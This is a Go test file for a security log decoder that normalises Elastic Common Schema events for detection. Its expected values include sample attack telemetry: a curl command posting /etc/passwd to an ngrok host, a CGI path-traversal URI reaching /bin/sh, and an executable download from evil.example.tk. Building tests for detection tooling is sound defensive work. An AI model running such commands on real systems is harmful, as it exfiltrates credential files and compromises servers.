package ecs_test

import (
	"bytes"
	_ "embed"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"shieldwall/internal/decode/ecs"
	"shieldwall/internal/decode/jsonl"
	"shieldwall/internal/decode/taxonomy"
	"shieldwall/internal/event"
)

//go:embed testdata/ecs.json
var sample string

// read decodes a stream and names what is of the format.
func read(t testing.TB, stream []byte) (out []event.Event) {
	t.Helper()
	in := jsonl.New(bytes.NewReader(stream), jsonl.Options{})
	for {
		ev, err := in.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			continue
		}
		if ecs.Is(taxonomy.MarksOf(ev)) {
			ecs.Name(ev)
		}
		e := *ev
		e.Fields = append([]event.Field(nil), ev.Fields...)
		out = append(out, e)
	}
}

func spell(v event.Value) string {
	if v.Kind != event.List {
		return v.Text
	}
	var items []string
	for _, i := range v.Items {
		items = append(items, i.Text)
	}
	return fmt.Sprint(items)
}

func TestName(t *testing.T) {
	wants := []struct {
		logsource, computer string
		fields              map[string]string
	}{
		{"linux/process_creation/", "web-3", map[string]string{"Image": "/usr/bin/curl", "CommandLine": "curl -d @/etc/passwd http://abc.ngrok.io",
			"ParentImage": "/bin/bash", "ProcessId": "4242", "User": "www-data", "CurrentDirectory": "/tmp",
			"Hashes": "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"}},
		{"windows/process_creation/", "ws-1", map[string]string{"OriginalFileName": "Cmd.Exe", "User": `CORP\bob`, "Hashes": "MD5=D41D8CD98F00B204E9800998ECF8427E"}},
		{"/dns/", "", map[string]string{"query": "api.telegram.org", "record_type": "A", "answer": "[192.0.2.1]", "SourceIp": "10.0.0.7", "Initiated": "true"}},
		{"/webserver/apache", "", map[string]string{"cs-uri-query": "[/cgi-bin/.%2e/.%2e/bin/sh?x x]", "cs-method": "POST", "c-ip": "198.51.100.9", "sc-status": "200"}},
		{"/proxy/", "", map[string]string{"c-uri": "[/a.exe https://evil.example.tk/a.exe]", "c-useragent": "Microsoft BITS/7.8", "cs-host": "evil.example.tk", "c-uri-extension": "exe"}},
		{"macos/file_event/", "", map[string]string{"TargetFilename": "/Users/x/Library/LaunchAgents/a.plist", "Image": "/bin/zsh"}},
		{"zeek/network_connection/conn", "", map[string]string{"dst_ip": "69.42.98.86", "dst_port": "23"}},
		{"aws//cloudtrail", "", map[string]string{"eventName": "StopLogging", "eventSource": "cloudtrail.amazonaws.com", "src_ip": "192.0.2.77", "userIdentity.type": "IAMUser", "User": "mallory"}},
		{"zeek//dce_rpc", "", map[string]string{"endpoint": "svcctl", "operation": "CreateServiceA", "SourceIp": "10.0.0.7"}},
		{"suricata/dns/dns", "", map[string]string{"dns.rrname": "a.example", "query": "a.example", "event_type": "dns"}},
		{"/firewall/", "", map[string]string{"src_ip": "69.42.98.86", "dst_port": "8080", "blocked": "true"}},
	}
	got := read(t, []byte(sample))
	if len(got) != len(wants) {
		t.Fatalf("%d events", len(got))
	}
	for i, want := range wants {
		ev := got[i]
		if ls := ev.Product + "/" + ev.Category + "/" + ev.Service; ls != want.logsource || ev.Computer != want.computer {
			t.Errorf("line %s: logsource %s of %q, want %s of %q", ev.Record, ls, ev.Computer, want.logsource, want.computer)
		}
		for name, text := range want.fields {
			if v, ok := ev.Get(name); !ok || spell(v) != text {
				t.Errorf("line %s: %s is %q, want %q", ev.Record, name, spell(v), text)
			}
		}
		if ev.Time.IsZero() {
			t.Errorf("line %s: no time", ev.Record)
		}
	}
	if got[0].Time.UnixMilli() != 1714979289123 {
		t.Errorf("time %v", got[0].Time)
	}
}

func TestMail(t *testing.T) {
	ev := read(t, []byte(`{"@timestamp":"2024-05-06T07:08:09.123Z","event":{"category":["email"]},"email":{"from":{"address":["a@x.example"]},"to":{"address":["b@y.example"]},"subject":"hello"}}`))[0]
	for name, want := range map[string]string{"From": "[a@x.example]", "To": "[b@y.example]", "Subject": "hello"} {
		if v, _ := ev.Get(name); spell(v) != want {
			t.Errorf("%s is %q, want %q", name, spell(v), want)
		}
	}
}

// TestIs: what only looks like it is left alone.
func TestIs(t *testing.T) {
	for _, line := range []string{
		`{"@timestamp":"2024-05-06T07:08:09.123Z","message":"x"}`,
		`{"event":{"category":"process","type":"start"}}`,
	} {
		if ev := read(t, []byte(line))[0]; ev.Product+ev.Category+ev.Service != "" {
			t.Errorf("taken: %s", line)
		}
	}
}

func seeds() []string {
	return append(strings.Split(strings.TrimSpace(sample), "\n"),
		`{"ecs":{"version":"1"},"event":{"category":[null],"type":[1]},"user":{"name":["a","b"],"domain":[]}}`,
		`{"ecs":{"version":"1"},"event":{"category":"web"},"url":{"original":"?","query":"?"}}`,
	)
}

func TestSeeds(t *testing.T) {
	if n := len(seeds()); n < 10 {
		t.Errorf("%d seeds", n)
	}
}

// FuzzName: whatever an event holds, a name occurs once and the event's own fields stay.
func FuzzName(f *testing.F) {
	for _, s := range seeds() {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := jsonl.New(bytes.NewReader(data), jsonl.Options{})
		for {
			ev, err := in.Next()
			if errors.Is(err, io.EOF) {
				return
			}
			if err != nil {
				continue
			}
			before := append([]event.Field(nil), ev.Fields...)
			ecs.Name(ev)
			seen := map[string]bool{}
			for i, f := range ev.Fields {
				if seen[f.Name] {
					t.Fatalf("%s occurs twice", f.Name)
				}
				seen[f.Name] = true
				if i < len(before) && (f.Name != before[i].Name || spell(f.Value) != spell(before[i].Value)) {
					t.Fatalf("the event's own field %s changed", before[i].Name)
				}
			}
		}
	})
}

func BenchmarkName(b *testing.B) {
	stream := strings.Repeat(sample, 300)
	b.SetBytes(int64(len(stream)))
	b.ReportAllocs()
	for b.Loop() {
		in := jsonl.New(strings.NewReader(stream), jsonl.Options{})
		for {
			ev, err := in.Next()
			if err != nil {
				break
			}
			if ecs.Is(taxonomy.MarksOf(ev)) {
				ecs.Name(ev)
			}
		}
	}
}
